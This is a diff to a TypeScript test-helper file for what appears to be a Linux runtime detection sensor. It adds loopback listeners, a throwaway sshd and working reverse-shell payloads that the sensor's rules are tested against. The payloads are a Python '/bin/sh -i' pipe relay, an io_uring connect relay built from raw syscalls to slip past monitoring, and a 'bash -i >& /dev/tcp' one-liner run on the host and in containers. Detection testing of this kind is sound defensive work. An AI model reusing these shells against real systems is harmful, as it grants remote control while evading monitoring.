@@ -1,13 +1,16 @@
 /**
- * Kernel tier plumbing: root check that fails loudly in CI, loopback listeners, and a sensor
- * session that collects the events of the processes a test starts.
+ * Kernel tier plumbing: root check that fails loudly in CI, loopback listeners, a throwaway
+ * sshd, and a sensor session that collects the events of the processes a test starts. Set-up
+ * that two test files need lives here once, so a fix to it reaches every test.
  */
 import { spawn, spawnSync } from "node:child_process";
-import { readFileSync, readdirSync, readlinkSync } from "node:fs";
+import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import net from "node:net";
 import tls from "node:tls";
 import dgram from "node:dgram";
-import { Engine, ProcHostView, ProcessTable, builtinRules, openSensorSync, type Finding, type Sensor, type SensorEvent, type SensorOptions } from "sockeye";
+import { Engine, ProcHostView, ProcessTable, builtinRules, openSensorSync, type EngineOptions, type Finding, type Sensor, type SensorEvent, type SensorOptions } from "sockeye";
 
 export const isRoot = process.getuid?.() === 0;
 export const inCI = process.env.CI === "true";
@@ -25,25 +28,121 @@ export function kernelTier(): { run: boolean } {
 
 export const PYTHON = "/usr/bin/python3";
 
+/**
+ * Python source defining `pipe_relay(s)`: `/bin/sh -i` behind two pipes, relayed to and from the
+ * connected socket `s` (the Popen relay shell, and an interactive-shell agent's very structure).
+ * Relay tests connect `s` their own way (plain, io_uring, before the sensor) and then call it.
+ * No single quote inside, so a test can pass it to `python3 -c '…'` in a shell command.
+ */
+export const PYTHON_PIPE_RELAY = `
+import os, subprocess, threading
+def pipe_relay(s):
+    c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    def up():
+        while True:
+            d = os.read(c.stdout.fileno(), 4096)
+            if not d: break
+            s.sendall(d)
+    threading.Thread(target=up, daemon=True).start()
+    while True:
+        d = s.recv(4096)
+        if not d: break
+        c.stdin.write(d); c.stdin.flush()
+    c.wait()
+`;
+
+/**
+ * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
+ * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
+ * Arguments: host, port.
+ */
+export const IO_URING_RELAY = `${PYTHON_PIPE_RELAY}
+import ctypes, mmap, socket, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+u32 = ctypes.c_uint32
+class SqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class CqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class Params(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
+IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
+def uring_connect(sock, host, port):
+    p = Params()
+    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
+    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
+    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
+    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
+    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
+    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
+    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
+    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
+    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
+    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
+    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
+    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
+    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
+    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
+s = socket.socket()
+uring_connect(s, sys.argv[1], int(sys.argv[2]))
+pipe_relay(s)
+`;
+
+/** A command whose answer only a shell computes (no echo of the input can contain it), and that answer. */
+const MARKER_COMMAND: [string, string] = ["echo RELAY_$((6*7))", "RELAY_42"];
+/** How long a commanding listener keeps an answered shell alive before `exit`: the rules read /proc of live processes. */
+const SHELL_LINGER_MS = 1500;
+
 export interface TcpListener {
   port: number;
   close(): Promise<void>;
 }
 
+export interface FarewellListener extends TcpListener {
+  /** From now on new connections are kept open, not sent the farewell. */
+  hold(): void;
+  /** Sends the farewell to every connection, held ones included, and to new ones again. */
+  release(): void;
+}
+
 /**
  * A loopback TCP listener. With `farewell`, each connection gets it and is half-closed at
- * once ("exit\n" makes a reverse shell on the other end finish by itself).
+ * once ("exit\n" makes a reverse shell on the other end finish by itself). `hold()` keeps the
+ * next shells alive until `release()`: a test that names a process from /proc (its container)
+ * must look while it lives, on any machine's timing.
  */
-export async function tcpListener(host = "127.0.0.1", farewell?: string): Promise<TcpListener> {
+export async function tcpListener(host = "127.0.0.1", farewell?: string): Promise<FarewellListener> {
   const sockets = new Set<net.Socket>();
+  let held = false;
   const server = net.createServer((s) => {
     sockets.add(s);
     s.on("error", () => {});
-    if (farewell !== undefined) s.end(farewell);
+    if (farewell !== undefined && !held) s.end(farewell);
   });
   await new Promise<void>((resolve) => server.listen(0, host, resolve));
   return {
     port: (server.address() as net.AddressInfo).port,
+    hold: () => { held = true; },
+    release: () => { held = false; if (farewell !== undefined) for (const s of sockets) s.end(farewell); },
+    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
+  };
+}
+
+/** A loopback listener that only collects what arrives (the output half of a telnet pair, a sink for a transfer). */
+export async function collectingListener(host = "127.0.0.1"): Promise<{ port: number; received: () => string; bytes: () => number; close(): Promise<void> }> {
+  const sockets = new Set<net.Socket>();
+  const chunks: Buffer[] = [];
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    s.on("data", (d: Buffer) => chunks.push(d));
+  });
+  await new Promise<void>((resolve) => server.listen(0, host, resolve));
+  return {
+    port: (server.address() as net.AddressInfo).port,
+    received: () => Buffer.concat(chunks).toString(),
+    bytes: () => chunks.reduce((n, c) => n + c.length, 0),
     close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
   };
 }
@@ -52,6 +151,34 @@ export async function udpListener(host = "127.0.0.1"): Promise<TcpListener> {
   const sock = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
   await new Promise<void>((resolve) => sock.bind(0, host, resolve));
   return { port: sock.address().port, close: () => new Promise((resolve) => sock.close(() => resolve())) };
+}
+
+/**
+ * commandingListener's UDP twin for a client bound to `clientPort`: it sends the command there
+ * until the answer comes back from that port (the client may not be up yet: early datagrams are
+ * lost), then `exit`. UDP has no accept: the client's port is fixed by the test so the listener
+ * knows where to send first.
+ */
+export async function udpCommandingListener(clientPort: number): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const [command, answer] = MARKER_COMMAND;
+  const sock = dgram.createSocket("udp4");
+  sock.on("error", () => {});
+  await new Promise<void>((resolve) => sock.bind(0, "127.0.0.1", resolve));
+  let got = "";
+  let resolveAnswered!: (ok: boolean) => void;
+  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
+  const timer = setInterval(() => sock.send(`${command}\n`, clientPort, "127.0.0.1"), 300);
+  sock.on("message", (msg, from) => {
+    if (from.port !== clientPort) return;
+    got += msg.toString();
+    if (got.includes(answer)) {
+      clearInterval(timer);
+      resolveAnswered(true);
+      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), SHELL_LINGER_MS);
+    }
+  });
+  setTimeout(() => { clearInterval(timer); resolveAnswered(false); }, 20_000).unref();
+  return { port: sock.address().port, answered, close: () => new Promise((resolve) => { clearInterval(timer); sock.close(() => resolve()); }) };
 }
 
 /** Runs a command to completion; returns its pid and exit status. */
@@ -72,6 +199,36 @@ export async function run(cmd: string, args: string[], input?: string): Promise<
 
 export function python(code: string) {
   return run(PYTHON, ["-c", code]);
+}
+
+type RunResult = Awaited<ReturnType<typeof run>>;
+
+/**
+ * A /dev/tcp reverse shell on the host, then one in a container (`startInContainer` runs the
+ * given shell command there), against one loopback listener, as the container tests need them:
+ * the host's shell is told to exit at once; the container's is held until `findingsFor(port)`
+ * has two findings (up to 30 s), so the test names its container from a live process on any
+ * machine's timing (a shell gone before the look is named by its cgroup id alone:
+ * test/unit/host/cgroups.test.ts).
+ */
+export async function hostAndContainerShells(
+  startInContainer: (shell: string) => Promise<RunResult>,
+  findingsFor: (port: number) => unknown[],
+): Promise<{ port: number; onHost: RunResult; inContainer: RunResult }> {
+  const listener = await tcpListener("127.0.0.1", "exit\n");
+  try {
+    const shell = `bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`;
+    // exec: the shell keeps the pid spawned here, which its finding must name.
+    const onHost = await run("bash", ["-c", `exec ${shell}`]);
+    listener.hold();
+    const inContainer = startInContainer(shell);
+    const until = Date.now() + 30_000;
+    while (findingsFor(listener.port).length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
+    listener.release();
+    return { port: listener.port, onHost, inContainer: await inContainer };
+  } finally {
+    await listener.close();
+  }
 }
 
 export class Session {
@@ -169,6 +326,110 @@ export async function freePort(): Promise<number> {
   return port;
 }
 
+/** Resolves once something accepts connections on 127.0.0.1:`port` (a server the test started). */
+export async function listening(port: number): Promise<void> {
+  for (let i = 0; i < 100; i++) {
+    const up = await new Promise<boolean>((resolve) => {
+      const c = net.connect(port, "127.0.0.1", () => { c.destroy(); resolve(true); });
+      c.on("error", () => resolve(false));
+    });
+    if (up) return;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  throw new Error(`nothing listens on 127.0.0.1:${port}`);
+}
+
+/**
+ * One request/response exchange with a line service on 127.0.0.1: sends `line` and returns the
+ * first line that comes back. The connection is not half-closed first: ncat closes on a
+ * client's EOF before its program has answered.
+ */
+export function exchange(port: number, line: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    let got = "";
+    const c = net.connect(port, "127.0.0.1", () => c.write(line));
+    c.setTimeout(5000, () => c.destroy(new Error(`no answer from port ${port}`)));
+    c.on("data", (d: Buffer) => {
+      got += d.toString();
+      if (got.includes("\n")) {
+        c.destroy();
+        resolve(got);
+      }
+    });
+    c.on("error", reject);
+    c.on("close", () => resolve(got));
+  });
+}
+
+export interface Sshd {
+  port: number;
+  /** Its own directory (keys, config, pid file), removed by stop(). */
+  dir: string;
+  clientKey: string;
+  /** ssh options that log in with the throwaway key and read no user or host configuration. */
+  clientOptions: string[];
+  stop(): Promise<void>;
+}
+
+/**
+ * Debian's sshd on 127.0.0.1 with throwaway keys and its own config, so the benign corpus
+ * (ssh, scp, sftp, git over ssh, jump hosts) runs against a real sshd and nothing of the host's
+ * is used or changed but /run/sshd, its privilege-separation directory, which a host without a
+ * running sshd lacks.
+ */
+export async function startSshd(): Promise<Sshd> {
+  const dir = mkdtempSync(join(tmpdir(), "sockeye-sshd-"));
+  for (const key of ["host_key", "client_key"]) {
+    const gen = spawnSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, key)], { encoding: "utf8" });
+    if (gen.status !== 0) throw new Error(`ssh-keygen: ${gen.error?.message ?? gen.stderr}`);
+  }
+  copyFileSync(join(dir, "client_key.pub"), join(dir, "authorized_keys"));
+  const port = await freePort();
+  writeFileSync(join(dir, "sshd_config"), [
+    `Port ${port}`, "ListenAddress 127.0.0.1", `HostKey ${join(dir, "host_key")}`, `PidFile ${join(dir, "sshd.pid")}`,
+    `AuthorizedKeysFile ${join(dir, "authorized_keys")}`, "PermitRootLogin yes", "StrictModes no", "UsePAM no",
+    "PasswordAuthentication no", "KbdInteractiveAuthentication no",
+    // scp and sftp need the subsystem; ssh -J needs forwarding (the default, said here so a distribution's change cannot turn it off).
+    "Subsystem sftp internal-sftp", "AllowTcpForwarding yes", "LogLevel ERROR", "",
+  ].join("\n"));
+  if (!existsSync("/run/sshd")) mkdirSync("/run/sshd", { mode: 0o755 });
+  const child = spawn("/usr/sbin/sshd", ["-D", "-e", "-f", join(dir, "sshd_config")], { stdio: ["ignore", "ignore", "inherit"] });
+  const exited = new Promise<void>((resolve) => child.once("close", () => resolve()));
+  const failed = new Promise<never>((_, reject) => {
+    child.once("error", (e) => reject(new Error(`sshd did not start: ${e.message}`)));
+    child.once("exit", (code, signal) => reject(new Error(`sshd exited (${signal ?? code}) before listening on 127.0.0.1:${port}`)));
+  });
+  failed.catch(() => {}); // once listening, a later exit is stop()'s business
+  await Promise.race([listening(port), failed]);
+  const clientKey = join(dir, "client_key");
+  return {
+    port,
+    dir,
+    clientKey,
+    clientOptions: ["-F", "/dev/null", "-i", clientKey, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "LogLevel=ERROR"],
+    stop: async () => {
+      if (child.exitCode === null && child.signalCode === null) child.kill("SIGTERM");
+      await exited;
+      rmSync(dir, { recursive: true, force: true });
+    },
+  };
+}
+
+/**
+ * An engine of `rules` (the built-in ones by default) fed every event of `session`, with a
+ * process table of its own seeded from /proc (the processes that predate the sensor), its
+ * findings pushed into `findings` as they come. Several per session compare rule sets on one run.
+ */
+export function attachEngine<F extends Finding>(session: Session, findings: F[], rules: EngineOptions["rules"] = builtinRules()): Engine {
+  const processes = new ProcessTable({ host: new ProcHostView() });
+  processes.seedFromProc();
+  const engine = new Engine({ rules, processes });
+  session.sensor.subscribe((events) => {
+    for (const e of events) for (const f of engine.handle(e)) findings.push(f as F);
+  });
+  return engine;
+}
+
 /**
  * Two engines fed the same events of one session: the built-in rules as they come (TRC-101's
  * precise profile) and with TRC-101's tracee profile, each with its own process table, so a
@@ -181,16 +442,8 @@ export class TwoProfiles<F extends Finding = Finding> {
   readonly traceeEngine: Engine;
 
   constructor(session: Session) {
-    const tables = [new ProcessTable({ host: new ProcHostView() }), new ProcessTable({ host: new ProcHostView() })] as const;
-    for (const t of tables) t.seedFromProc();
-    this.preciseEngine = new Engine({ rules: builtinRules(), processes: tables[0] });
-    this.traceeEngine = new Engine({ rules: builtinRules({ trc101: { profile: "tracee" } }), processes: tables[1] });
-    session.sensor.subscribe((events) => {
-      for (const e of events) {
-        for (const f of this.preciseEngine.handle(e)) this.precise.push(f as F);
-        for (const f of this.traceeEngine.handle(e)) this.tracee.push(f as F);
-      }
-    });
+    this.preciseEngine = attachEngine(session, this.precise);
+    this.traceeEngine = attachEngine(session, this.tracee, builtinRules({ trc101: { profile: "tracee" } }));
   }
 
   /** TRC-101's suppressions in the precise profile, by reason. */
@@ -209,7 +462,7 @@ export async function commandingListener(
   host: string,
   opts: { commands?: [string, string][]; tls?: { key: string; cert: string } } = {},
 ): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
-  const commands = opts.commands ?? [["echo RELAY_$((6*7))", "RELAY_42"]];
+  const commands = opts.commands ?? [MARKER_COMMAND];
   const sockets = new Set<net.Socket>();
   let resolveAnswered!: (ok: boolean) => void;
   const answered = new Promise<boolean>((r) => (resolveAnswered = r));
@@ -226,7 +479,7 @@ export async function commandingListener(
         if (next < commands.length) s.write(`${commands[next]![0]}\n`);
         else {
           resolveAnswered(true);
-          setTimeout(() => s.end("exit\n"), 1500);
+          setTimeout(() => s.end("exit\n"), SHELL_LINGER_MS);
         }
       }
     });
@@ -246,52 +499,3 @@ export async function commandingListener(
  * benches start it the same way (bench/daemon.mjs).
  */
 export { CLI, peakRssMb, startDaemon, stoppedLine, type Daemon, type StoppedLine } from "../../bench/daemon.mjs";
-
-/**
- * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
- * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
- * Arguments: host, port. (relay-evasions.test.ts has its own copy; relay-netns.test.ts uses this one.)
- */
-export const IO_URING_RELAY = `
-import ctypes, mmap, os, socket, struct, subprocess, sys, threading
-libc = ctypes.CDLL(None, use_errno=True)
-libc.syscall.restype = ctypes.c_long
-u32 = ctypes.c_uint32
-class SqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class CqOff(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
-class Params(ctypes.Structure):
-    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
-IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
-def uring_connect(sock, host, port):
-    p = Params()
-    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
-    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
-    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
-    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
-    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
-    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
-    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
-    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
-    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
-    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
-    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
-    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
-    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
-    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
-s = socket.socket()
-uring_connect(s, sys.argv[1], int(sys.argv[2]))
-c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-def up():
-    while True:
-        d = os.read(c.stdout.fileno(), 4096)
-        if not d: break
-        s.sendall(d)
-threading.Thread(target=up, daemon=True).start()
-while True:
-    d = s.recv(4096)
-    if not d: break
-    c.stdin.write(d); c.stdin.flush()
-c.wait()
-`;
